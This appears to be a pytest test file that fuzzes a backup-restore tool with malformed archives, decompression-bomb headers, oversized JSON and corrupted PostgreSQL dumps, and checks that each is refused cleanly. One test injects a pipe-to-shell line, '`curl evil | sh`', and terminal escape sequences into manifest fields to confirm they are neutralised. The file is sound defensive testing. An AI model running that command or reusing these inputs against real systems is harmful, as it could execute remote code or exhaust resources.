"""Some backups of each kind of fault, made from a fixed number; and what the fuzz has found."""

import gzip
import io
import random
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from atx_assets.errors import AtxError
from atx_assets.home.backup.archive import MANIFEST
from atx_assets.home.postgres.database_code import code_in
from atx_assets.home.postgres.dumps import restore as restore_database
from atx_assets.home.postgres.server import EmbeddedPostgres
from atx_assets.settings import Database
from atx_assets_tests.builders.connections import opened
from atx_assets_tests.builders.postgres import dump_database, new_database
from atx_assets_tests.fuzz import backups
from atx_assets_tests.fuzz.backups import (
    CONTENT,
    MUTATIONS,
    as_json,
    fault_of,
    listed,
    tarred,
    zipped,
)

#: Files of each kind; `fuzz_restore.py` makes as many as there is time for.
MUTANTS = 15
#: Dumps, each of which takes a database.
DUMPS = 8


@pytest.mark.slow
@pytest.mark.parametrize("name", MUTATIONS)
def test_a_mutant_is_restored_whole_or_refused_in_a_line(name: str, tmp_path: Path) -> None:
    rng = random.Random(name)
    for number in range(MUTANTS):
        said, fault = fault_of(MUTATIONS[name](rng), tmp_path)
        assert fault == "", (number, said)


def test_a_backup_that_was_not_changed_is_restored(tmp_path: Path) -> None:
    said, fault = fault_of(zipped(tarred(as_json(listed(CONTENT)), CONTENT)), tmp_path)
    assert fault == ""
    assert said.startswith(
        "restored what /old/h held on 2026-11-24T04:00:00+00:00 (atx 9, mlflow 3)"
    )


def refused(tmp_path: Path, content: bytes, words: str) -> str:
    said, fault = fault_of(content, tmp_path)
    assert fault == ""
    assert words in said
    return said


def changed(**values: object) -> bytes:
    return zipped(tarred(as_json(listed(CONTENT) | values), CONTENT))


# -- what was found


def test_a_header_of_a_hundred_megabytes_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """Kept out: some megabytes that took gigabytes of memory, and a quarter of an hour."""
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, 2**27
    stream = io.BytesIO()
    with gzip.GzipFile(fileobj=stream, mode="wb", compresslevel=1) as packed:
        packed.write(header.tobuf(tarfile.USTAR_FORMAT))
        for _ in range(2**7):
            packed.write(b"0" * 2**20)
    assert len(stream.getvalue()) < 10**6
    refused(tmp_path, stream.getvalue(), "is damaged, or not a backup of atx")


def test_a_list_of_millions_of_nothings_is_refused_before_it_is_read(tmp_path: Path) -> None:
    """Kept out: JSON of 50 MB that takes gigabytes as Python's objects."""
    about = b'{"format": 1, "members": [' + b"{}," * 16_000_000 + b"1]}"
    refused(tmp_path, zipped(tarred(about, {})), "its list of files is not valid")


def test_headers_without_end_are_refused(tmp_path: Path) -> None:
    """Kept out: a RecursionError, a header in a header in a header."""
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, 512
    one = header.tobuf(tarfile.USTAR_FORMAT) + b"512 path=" + b"x" * 502 + b"\n"
    refused(tmp_path, zipped(one * 5_000), "is damaged, or not a backup of atx")


@pytest.mark.parametrize(
    "values",
    [
        {"format": float("inf")},
        {"format": "1"},
        {"format": True},
        {"made": 7},
        {"made": "yesterday"},
        {"home": "relative"},
        {"home": ["/h"]},
        {"data_dir": None},
        {"versions": ["atx"]},
        {"versions": {"atx": 9}},
        {"databases": {"mlflow.db": "media"}},
        {"databases": {"databases/0.dump": "template1"}},
        {"databases": []},
        {"not_inside": "your .env"},
        {"not_inside": [1]},
        {"members": {"name": "data/a"}},
        {"members": [None]},
        {"members": [{"name": "data/a", "size": 10**400, "sha256": "0" * 64}]},
        {"members": [{"name": "data/\ud800", "size": 1, "sha256": "0" * 64}]},
        {"members": [{"name": "data/a", "size": 1, "sha256": "no"}]},
        {"more": 1},
    ],
)
def test_a_list_with_a_value_of_another_kind_is_refused(
    tmp_path: Path, values: dict[str, object]
) -> None:
    """Kept out: an OverflowError, a ValueError, an AttributeError, and lines made of them."""
    refused(
        tmp_path,
        changed(**values),
        "is damaged, or not a backup of atx: its list of files is not valid",
    )


def test_what_a_list_says_forges_no_line_and_turns_no_terminal(tmp_path: Path) -> None:
    said, fault = fault_of(
        changed(
            home="/old/\x1b[2J\nhome /secure",
            versions={"atx": "9\rrestored"},
            not_inside=["nothing\n`curl evil | sh` goes on\x1b]0;x\x07", *["x" * 900] * 500],
        ),
        tmp_path,
    )
    assert fault == ""
    assert "\nhome /secure" not in said
    assert "\n`curl" not in said
    assert len(said.splitlines()) == 3 + 10


def test_a_later_format_is_named_with_a_version_that_is_one(tmp_path: Path) -> None:
    for version in ("\x1b[2J" * 99, ["x"], None):
        versions = {"atx": version}
        refused(tmp_path, changed(format=99, versions=versions), "was made by a later atx (")
    refused(tmp_path, changed(format=99, versions=[]), "was made by a later atx (?)")


def test_a_backup_that_says_more_than_the_disk_holds_is_refused_at_once(tmp_path: Path) -> None:
    entry = {"name": "data/a", "size": 2**61, "sha256": "0" * 64}
    refused(tmp_path, changed(members=[entry]), "MB free: make room there")


@pytest.mark.parametrize("time", ["1e999", "nan", "soon"])
def test_a_time_that_no_file_has_is_refused(tmp_path: Path, time: str) -> None:
    """Kept out: an OverflowError of the time that a file was to be given."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, part in {MANIFEST: as_json(listed(CONTENT)), **CONTENT}.items():
            info = tarfile.TarInfo(name)
            info.size, info.pax_headers = len(part), {"mtime": time}
            tar.addfile(info, io.BytesIO(part))
    refused(tmp_path, zipped(stream.getvalue()), "is damaged, or not a backup of atx")


# -- dumps


@pytest.fixture
def dump(postgres: EmbeddedPostgres, tmp_path: Path) -> bytes:
    with new_database(postgres) as database, opened(database) as connection:
        connection.execute("CREATE SCHEMA atp")
        connection.execute("CREATE TYPE atp.label AS ENUM ('would_watch', 'would_not_watch')")
        connection.execute(
            "CREATE TABLE atp.training (imdb_id text PRIMARY KEY CHECK (imdb_id ~ '^tt'), n serial,"
            " label atp.label, at timestamptz DEFAULT now())"
        )
        connection.execute(
            "INSERT INTO atp.training SELECT 'tt' || g FROM generate_series(1, 99) g"
        )
        dump_database(database, tmp_path / "0.dump")
    return (tmp_path / "0.dump").read_bytes()


@contextmanager
def _dumped_into(postgres: EmbeddedPostgres) -> Iterator[Database]:
    """A database, and no role that a restore which failed has left."""
    with new_database(postgres) as database:
        yield database
        with opened(database) as connection:
            connection.execute(
                "DO $$ BEGIN IF to_regrole('atx_restoring') IS NOT NULL THEN"
                " DROP OWNED BY atx_restoring CASCADE; DROP ROLE atx_restoring; END IF; END $$"
            )


@pytest.mark.slow
def test_a_dump_that_was_changed_is_restored_or_refused_in_a_line(
    postgres: EmbeddedPostgres, dump: bytes, tmp_path: Path
) -> None:
    rng, file = random.Random(6), tmp_path / "mutant.dump"
    for how in [lambda _, content: content, *[backups._flipped, backups._cut] * (DUMPS // 2)]:
        file.write_bytes(how(rng, dump))
        with _dumped_into(postgres) as database:
            told = ""
            try:
                restore_database(postgres, database.name, file)
            except AtxError as error:
                told = str(error)
            assert len(told) < 500
            assert "\n" not in told
            with opened(database) as connection:
                assert told or code_in(connection) == []
